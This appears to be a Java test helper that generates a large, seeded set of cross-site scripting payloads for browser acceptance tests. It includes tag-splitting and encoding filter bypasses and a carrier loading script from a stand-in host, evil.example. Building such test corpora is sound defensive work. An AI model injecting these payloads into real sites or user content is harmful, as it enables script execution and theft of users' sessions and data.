package varve.acceptance.browser;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;

/// Texts that try to run a script: every way to carry one, with every way to hide it.
final class Payloads {
    private static final long SEED = 42;

    private static final List<String> CALLS =
            List.of(
                    "alert(1)",
                    "alert`1`",
                    "top['al'+'ert'](1)",
                    "(alert)(1)",
                    "window.pwned()",
                    "eval('ale'+'rt(1)')",
                    "prompt(document.domain)",
                    "setTimeout(alert)",
                    "&#97;lert(1)",
                    "\\u0061lert(1)");

    /// `%s` is where the call goes.
    private static final List<String> CARRIERS =
            List.of(
                    "<script>%s</script>",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>%s</script>",
                    "<scr<script>ipt>%s</scr</script>ipt>",
                    "<script\n>%s</script\n>",
                    "<script/x>%s</script>",
                    "<svg><script>%s</script></svg>",
                    "<svg onload=%s>",
                    "<svg/onload=%s//",
                    "<img src=x onerror=%s>",
                    "<img src=x onerror=\"%s\">",
                    "<img src='x' onerror='%s'",
                    "<img/src/onerror=%s>",
                    "<IMG SRC=\"javascript:%s\">",
                    "<img src=\"data:image/svg+xml,<svg onload=%s>\">",
                    "<body onload=%s>",
                    "<iframe src=\"javascript:%s\"></iframe>",
                    "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
                    "<object data=\"javascript:%s\"></object>",
                    "<embed src=\"javascript:%s\">",
                    "<math><a xlink:href=\"javascript:%s\">x</a></math>",
                    "<a href=\"javascript:%s\">x</a>",
                    "<a href=\"java\tscript:%s\">x</a>",
                    "<a href=\" &#1; javascript:%s\">x</a>",
                    "<a href=\"JaVaScRiPt:%s\">x</a>",
                    "<a href=\"vbscript:%s\">x</a>",
                    "<a href=\"data:text/html,<script>%s</script>\">x</a>",
                    "[x](javascript:%s)",
                    "[x](<javascript:%s>)",
                    "[x](java&#115;cript:%s)",
                    "![x](javascript:%s)",
                    "![x\" onerror=\"%s](y)",
                    "[x]: javascript:%s\n\n[x]",
                    "<javascript:%s>",
                    "<details open ontoggle=%s>x</details>",
                    "<input autofocus onfocus=%s>",
                    "<select autofocus onfocus=%s>",
                    "<video><source onerror=\"%s\"></video>",
                    "<audio src=x onerror=%s>",
                    "<marquee onstart=%s>x</marquee>",
                    "<style>@import 'javascript:%s';</style>",
                    "<p style=\"background:url(javascript:%s)\">x</p>",
                    "<style onload=%s></style>",
                    "<link rel=stylesheet href=\"javascript:%s\">",
                    "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
                    "<base href=\"javascript:%s//\">",
                    "<form action=\"javascript:%s\"><button>x</button></form>",
                    "<button formaction=\"javascript:%s\">x</button>",
                    "<isindex type=image src=1 onerror=%s>",
                    "<table background=\"javascript:%s\"><tr><td>x</td></tr></table>",
                    "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
                    "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
                    "<svg></p><style><a id=\"</style><img src=1 onerror=%s>\">",
                    "<template><script>%s</script></template>",
                    "<div id=\"search\" name=\"body\" onclick=%s>x</div>",
                    "\"><script>%s</script>",
                    "'><img src=x onerror=%s>",
                    "--><img src=x onerror=%s>",
                    "]]><script>%s</script>",
                    "</title><script>%s</script>",
                    "</textarea><img src=x onerror=%s>",
                    "`<img src=x onerror=%s>",
                    "```\n</code></pre><img src=x onerror=%s>\n```",
                    "```ts\"><script>%s</script>\nx\n```",
                    "> [!NOTE]\n> <img src=x onerror=%s>",
                    "| <img src=x onerror=%s> |\n|---|\n| x |",
                    "# <svg onload=%s>",
                    "${%s}",
                    "{{constructor.constructor('%s')()}}",
                    "<x onclick=%s tabindex=1 id=main>x</x>",
                    "<img src=x\u0000onerror=%s>",
                    "\u2028<script>%s</script>");

    private Payloads() {}

    /// So many of them, all different, always the same.
    static List<String> some(int wanted) {
        var all = new ArrayList<String>();
        for (var carrier : CARRIERS) {
            for (var call : CALLS) {
                var plain = carrier.replace("%s", call);
                all.add(plain);
                all.add(plain.replace("<", "%3C"));
                all.add(plain.replace("<", "&lt;").replace("&lt;img", "<img"));
                all.add("x" + plain.replace("=", " =\n"));
                all.add(plain.replace("script", "ScRiPt").replace("on", "oN"));
            }
        }
        var different = new ArrayList<>(all.stream().distinct().toList());
        Collections.shuffle(different, new Random(SEED));
        if (different.size() < wanted) {
            throw new IllegalStateException("only " + different.size());
        }
        return List.copyOf(different.subList(0, wanted));
    }
}
